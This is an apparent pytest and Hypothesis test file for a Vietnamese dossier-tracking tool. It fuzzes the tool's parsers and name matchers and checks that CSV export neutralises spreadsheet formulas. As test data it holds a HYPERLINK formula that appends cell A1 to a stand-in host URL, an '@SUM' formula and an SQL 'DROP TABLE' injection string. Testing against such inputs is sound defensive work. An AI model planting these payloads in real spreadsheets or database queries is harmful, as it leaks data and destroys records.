"""Hostile input: whatever a user types or a file holds, tracker answers with its own error
(one Vietnamese sentence) or a value — never another exception — and what it writes for a
spreadsheet cannot run as a formula.

(Import rows are fuzzed in test_import_property.py; template code in a dossier field or a
template in test_letters_template.py and test_report_documents.py.)
"""

from __future__ import annotations

import datetime as dt
import unicodedata
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from tests.conftest import Invoke
from tests.csv_output import read_csv
from tracker.cli.output import csv_safe
from tracker.dates import EARLIEST, LATEST, Period, format_date, parse_date, parse_period
from tracker.db import make_engine, transaction
from tracker.errors import InvalidInput, TrackerError
from tracker.text import clean, fold, fold_key, mask_name, sort_key

# Typing near the formats we accept, and anything at all.
date_like = st.one_of(
    st.text(),
    st.from_regex(r"\A\s*\d{0,5}[/.\-]\d{0,3}[/.\-]\d{0,6}\s*\Z"),
    st.from_regex(r"\A\d{4}-\d{1,3}(-\d{1,3})?\Z"),
    st.from_regex(r"\A\d{1,3}/\d{4,5}\Z"),
    st.sampled_from(["31/02/2024", "29/02/2023", "00/00/0000", "2024-13", "13/2024", "0/2024"]),
)
VIETNAMESE = (
    "aăâbcdđeêghiklmnoôơpqrstuưvxyàảãáạằẳẵắặầẩẫấậèẻẽéẹềểễếệìỉĩíịòỏõóọồổỗốộờởỡớợùủũúụừửữứựỳỷỹýỵ"
)
# Every Vietnamese letter in both cases, digits, spaces of all kinds, and loose tone marks
# (Windows-1258 files write them as separate combining characters).
vietnamese_words = st.text(
    alphabet=VIETNAMESE + VIETNAMESE.upper() + "0123456789 \u00a0\t\u0301\u0300\u0323\u0303"
)
vietnamese_text = st.one_of(vietnamese_words, st.text(alphabet=VIETNAMESE + " &-–.,()/"))


def only_tracker_errors(function: Callable[[str], Any], value: str) -> Any:
    try:
        return function(value)
    except TrackerError as err:
        assert str(err).strip()
        return None


@given(date_like)
def test_parse_date_gives_a_date_or_our_error(text: str) -> None:
    parsed = only_tracker_errors(parse_date, text)
    assert parsed is None or isinstance(parsed, dt.date)


@given(st.dates(min_value=EARLIEST, max_value=LATEST))
def test_parse_date_reads_what_we_print(day: dt.date) -> None:
    assert parse_date(format_date(day)) == day
    assert parse_date(day.isoformat()) == day


@given(
    st.dates(max_value=EARLIEST - dt.timedelta(days=1))
    | st.dates(min_value=LATEST + dt.timedelta(days=1))
)
def test_a_date_outside_the_years_tracker_works_with_is_refused(day: dt.date) -> None:
    with pytest.raises(InvalidInput, match="nằm ngoài khoảng tracker làm việc"):
        parse_date(format_date(day))


@given(date_like)
def test_parse_period_gives_a_month_or_our_error(text: str) -> None:
    period = only_tracker_errors(parse_period, text)
    assert period is None or (isinstance(period, Period) and 1 <= period.month <= 12)


@given(st.one_of(date_like, st.from_regex(r"\A\d{8}(\d{6})?\Z"), st.integers(), st.floats()))
def test_import_date_cells_give_a_date_or_a_row_error(value: Any) -> None:
    from tracker.importers.cells import CellError, date

    try:
        parsed = date(value)
    except CellError as err:
        assert str(err)
        return
    assert parsed is None or isinstance(parsed, dt.date)


@given(st.one_of(st.text(), st.from_regex(r"\A[^=]{0,12}=[a-z_]{0,12}\Z")))
def test_column_mapping_option_gives_a_mapping_or_our_error(text: str) -> None:
    from tracker.importers.fields import parse_mapping

    only_tracker_errors(parse_mapping, text)


@given(st.one_of(st.text(), vietnamese_text))
def test_text_functions_never_fail(text: str) -> None:
    cleaned = clean(text)
    assert unicodedata.is_normalized("NFC", cleaned) and cleaned == cleaned.strip()
    folded = fold(text)
    assert fold(folded) == folded
    assert not any(unicodedata.combining(ch) for ch in folded)
    assert all(ch in "0123456789abcdefghijklmnopqrstuvwxyz" for ch in fold_key(text))
    sort_key(text)
    mask_name(text)


@given(vietnamese_words)
def test_fold_of_vietnamese_is_ascii(text: str) -> None:
    assert fold(text).isascii()


@given(st.one_of(st.text(), st.from_regex(r"\A[=+\-@\t\r].*\Z"), st.integers(), st.floats()))
def test_csv_cells_never_start_a_formula(value: Any) -> None:
    cell = csv_safe(value)
    if cell.startswith(("=", "+", "-", "@", "\t", "\r")):
        float(cell.replace(",", "."))  # only a plain number may start with a sign


def test_formula_in_a_dossier_is_text_in_csv_output(run: Invoke) -> None:
    formula = '=HYPERLINK("http://example.invalid/?x="&A1,"Bấm vào đây")'
    run(
        "cases",
        "add",
        "000.00.19.H53-241105-0001",
        "--procedure",
        "@SUM(1+1)",
        "--applicant",
        formula,
        "--unit",
        "tnmt",
        "--due",
        "15/11/2024",
        "--reason",
        "+84 912 345 678",
    )
    rows = read_csv(run("cases", "list", "--format", "csv").stdout)
    row = dict(zip(rows[0], rows[1], strict=True))
    assert row["Chủ hồ sơ"] == "'" + formula
    assert row["Thủ tục"] == "'@SUM(1+1)"
    assert row["Lý do"] == "'+84 912 345 678"


@pytest.fixture
def session(db_url: str) -> Any:
    engine = make_engine(db_url)
    with transaction(engine) as session:
        yield session
    engine.dispose()


names = st.one_of(
    st.text(max_size=40),
    vietnamese_text,
    st.sampled_from(["", " ", "phong", "xa", "tnmt", "UBND", "%", "_", "'; DROP TABLE units;--"]),
)


def test_unit_and_head_names_match_or_raise_our_error(session: Any) -> None:
    from tracker.services.heads import resolve_head
    from tracker.services.units import UnitMatcher

    matcher = UnitMatcher.load(session)

    @settings(max_examples=300, deadline=None)
    @given(names)
    def unit_or_error(text: str) -> None:
        unit = only_tracker_errors(matcher.find, text)
        assert unit is None or unit.code

    @settings(max_examples=100, deadline=None)
    @given(names)
    def head_or_error(text: str) -> None:
        head = only_tracker_errors(lambda value: resolve_head(session, value), text)
        assert head is None or head.full_name

    unit_or_error()
    head_or_error()


@settings(
    max_examples=40,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture],
)
@given(
    st.one_of(
        st.binary(max_size=600),
        st.lists(st.lists(st.text(max_size=12), max_size=8), max_size=6).map(
            lambda rows: "\n".join(";".join(row) for row in rows).encode("utf-8")
        ),
    ),
    st.sampled_from(["xuat.csv", "xuat.xlsx", "xuat.xls", "xuat.ods", "xuat"]),
)
def test_import_of_any_file_is_a_result_or_our_error(
    run: Invoke, tmp_path: Path, content: bytes, name: str
) -> None:
    path = tmp_path / name
    path.write_bytes(content)
    result = run("import", str(path), "--dry-run", ok=False)
    assert result.exit_code in (0, 1, 3), result.output
    assert result.exception is None or isinstance(result.exception, SystemExit), repr(
        result.exception
    )
